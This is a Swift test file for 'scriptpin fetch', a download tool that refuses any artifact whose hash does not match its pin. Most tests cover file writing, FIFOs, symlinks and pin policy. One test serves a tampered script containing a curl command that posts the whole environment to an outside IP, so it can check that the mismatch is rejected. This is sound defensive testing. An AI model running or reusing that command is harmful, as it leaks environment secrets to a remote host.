import Foundation
import Testing

@Suite("scriptpin fetch against a real HTTPS server")
struct FetchCommandTests {
    let server: HTTPSFixture
    let work: Workspace

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
    }

    /// A small tarball made with tar itself, served and pinned as `tool-tgz`.
    private func pinnedTarball() throws -> Data {
        let source = TemporaryDirectory()
        source.write("tool/bin/tool", "#!/bin/sh\necho tool\n")
        #expect(ProcessRunner.run("tar", ["-czf", "tool.tgz", "tool"], in: source.path).status == 0)
        let tarball = try Data(contentsOf: URL(fileURLWithPath: source.url("tool.tgz")))
        server.root.write("files/tool.tgz", tarball)
        let digest = ProcessRunner.run("sha256sum", [server.root.url("files/tool.tgz")], in: work.path).stdout.prefix(64)
        work.directory.write("known-hashes/tool-tgz.pin", "url \(server.url("files/tool.tgz"))\nsha256 \(digest)\n")
        return tarball
    }

    @Test("A pinned artifact is written atomically to -o FILE with mode 0644, or --mode")
    func toFile() throws {
        let tarball = try pinnedTarball()
        let result = work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz"])
        #expect(result.status == 125, "the directory must exist: \(result.stderr)")
        try FileManager.default.createDirectory(atPath: work.directory.url("out"), withIntermediateDirectories: true)
        let written = work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz"])
        #expect(written.status == 0, "\(written.stderr)")
        #expect(written.stdout.isEmpty)
        #expect(try Data(contentsOf: URL(fileURLWithPath: work.directory.url("out/tool.tgz"))) == tarball)
        #expect((try FileManager.default.attributesOfItem(atPath: work.directory.url("out/tool.tgz"))[.posixPermissions] as? Int) == 0o644)
        #expect(try FileManager.default.contentsOfDirectory(atPath: work.directory.url("out")) == ["tool.tgz"], "no temporary file left")
        #expect(work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz", "--mode", "0755"]).status == 0)
        #expect((try FileManager.default.attributesOfItem(atPath: work.directory.url("out/tool.tgz"))[.posixPermissions] as? Int) == 0o755)
    }

    @Test("A signal while -o FILE is being written removes the temporary file and leaves FILE as it was")
    func signalDuringWrite() throws {
        // Large enough that writing and syncing it takes a moment to catch.
        let body = String(repeating: "#", count: 15_000_000)
        server.serve("large.bin", body)
        work.directory.write("out/target", "before\n")
        let driver = ProcessRunner.fixtures + "/signal_during_write.py"
        let result = ProcessRunner.run(
            "python3", [driver, work.directory.url("out"), "--", ProcessRunner.scriptpinPath, "fetch", server.url("files/large.bin"),
                        "--sha256", sha256Hex(body), "-o", work.directory.url("out/target")],
            in: work.directory.path, environment: work.environment())
        #expect(result.stdout == "caught: -15; left: []\n", "\(result.stderr)")
        #expect(work.directory.read("out/target") == "before\n")
    }

    @Test("-o into what exists: a device or FIFO is written through, /dev/stdout and /dev/fd/N are those descriptors, a directory is refused, a symbolic link is replaced, not followed")
    func intoWhatExists() throws {
        let tarball = try pinnedTarball()
        let directory = work.directory
        // A device node of our own, the same device as /dev/null: written through, still a device afterwards.
        #expect(ProcessRunner.run("mknod", [directory.url("null"), "c", "1", "3"], in: directory.path).status == 0)
        let device = work.scriptpin(["fetch", "tool-tgz", "-o", "null"])
        #expect(device.status == 0, "\(device.stderr)")
        #expect((try FileManager.default.attributesOfItem(atPath: directory.url("null"))[.type] as? FileAttributeType) == .typeCharacterSpecial)

        #expect(ProcessRunner.run("mkfifo", [directory.url("fifo")], in: directory.path).status == 0)
        let throughFIFO = ProcessRunner.run(
            "/bin/sh", ["-c", "cat fifo > from-fifo & \"$0\" fetch tool-tgz -o fifo; status=$?; wait; exit $status", ProcessRunner.scriptpinPath],
            in: directory.path, environment: work.environment())
        #expect(throughFIFO.status == 0, "\(throughFIFO.stderr)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: directory.url("from-fifo"))) == tarball)

        let stdout = ProcessRunner.run(
            "/bin/sh", ["-c", "\"$0\" fetch tool-tgz -o /dev/stdout > from-stdout && \"$0\" fetch tool-tgz -o /dev/fd/3 3> from-fd3", ProcessRunner.scriptpinPath],
            in: directory.path, environment: work.environment())
        #expect(stdout.status == 0, "\(stdout.stderr)")
        #expect(try Data(contentsOf: URL(fileURLWithPath: directory.url("from-stdout"))) == tarball)
        #expect(try Data(contentsOf: URL(fileURLWithPath: directory.url("from-fd3"))) == tarball)

        try FileManager.default.createDirectory(atPath: directory.url("folder"), withIntermediateDirectories: true)
        let refused = work.scriptpin(["fetch", "tool-tgz", "-o", "folder"])
        #expect(refused.status == 125)
        #expect(refused.stderr == "Error: folder is a directory, and nothing was written; name the file to write, as in -o folder/NAME\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: directory.url("folder")) == [])

        directory.write("victim", "keep me\n")
        try FileManager.default.createSymbolicLink(atPath: directory.url("link"), withDestinationPath: directory.url("victim"))
        let replaced = work.scriptpin(["fetch", "tool-tgz", "-o", "link"])
        #expect(replaced.status == 0, "\(replaced.stderr)")
        #expect(directory.read("victim") == "keep me\n", "the link's target is untouched")
        #expect((try FileManager.default.attributesOfItem(atPath: directory.url("link"))[.type] as? FileAttributeType) == .typeRegular)
        #expect(try Data(contentsOf: URL(fileURLWithPath: directory.url("link"))) == tarball)
    }

    @Test("Without -o, or with -o -, the verified bytes go to stdout, and tar unpacks them")
    func toStdout() throws {
        let tarball = try pinnedTarball()
        #expect(work.scriptpin(["fetch", "tool-tgz"]).stdoutData == tarball)
        #expect(work.scriptpin(["fetch", "tool-tgz", "-o", "-"]).stdoutData == tarball)
        let unpacked = ProcessRunner.run(
            "/bin/sh", ["-c", "\"$0\" fetch tool-tgz | tar -xzO tool/bin/tool", ProcessRunner.scriptpinPath],
            in: work.path, environment: work.environment())
        #expect(unpacked.stdout == "#!/bin/sh\necho tool\n")
    }

    @Test("A body that does not match writes nothing: no file, and tar receives zero bytes")
    func mismatchWritesNothing() throws {
        _ = try pinnedTarball()
        server.root.write("files/tool.tgz", Data("#!/bin/sh\ncurl -d \"$(env)\" https://203.0.113.9/c\n".utf8))
        let toFile = work.scriptpin(["fetch", "tool-tgz", "-o", "tool.tgz"])
        #expect(toFile.status == 125)
        #expect(toFile.stderr.contains("does not match its pin"))
        #expect(toFile.stderr.contains("; nothing was run or written."), "\(toFile.stderr)")
        #expect(!work.directory.exists("tool.tgz"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: work.path).filter { $0.hasPrefix(".tool.tgz") }.isEmpty)
        let piped = ProcessRunner.run(
            "/bin/sh", ["-c", "\"$0\" fetch tool-tgz | wc -c", ProcessRunner.scriptpinPath],
            in: work.path, environment: work.environment())
        #expect(piped.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "0")
    }

    @Test("An unpinned URL is refused with its digest; --sha256 pins ad hoc; an unreachable pin exits 124 or uses the store")
    func policy() throws {
        let tarball = try pinnedTarball()
        let url = server.url("files/tool.tgz")
        server.root.write("files/other.bin", Data("other\n".utf8))
        let unpinned = work.scriptpin(["fetch", server.url("files/other.bin")])
        #expect(unpinned.status == 125)
        #expect(unpinned.stderr.hasPrefix("Error: \(server.url("files/other.bin")) is not pinned; it served sha256:"))
        #expect(unpinned.stdout.isEmpty)
        let adHoc = work.scriptpin(["fetch", server.url("files/other.bin"), "--sha256", sha256Hex("other\n")])
        #expect(adHoc.status == 0)
        #expect(adHoc.stdout == "other\n")
        #expect(work.scriptpin(["fetch", url]).stdoutData == tarball, "by URL, pinned in the manifest")
        try FileManager.default.removeItem(atPath: server.root.url("files/tool.tgz"))
        let fromStore = work.scriptpin(["fetch", "tool-tgz"])
        #expect(fromStore.status == 0)
        #expect(fromStore.stdoutData == tarball)
        #expect(fromStore.stderr.contains("scriptpin: writing the stored copy of pin 'tool-tgz'"))
        try FileManager.default.removeItem(atPath: work.cache)
        let unreachable = work.scriptpin(["fetch", "tool-tgz"])
        #expect(unreachable.status == 124)
        #expect(unreachable.stderr.contains("answered HTTP 404"))
    }
}
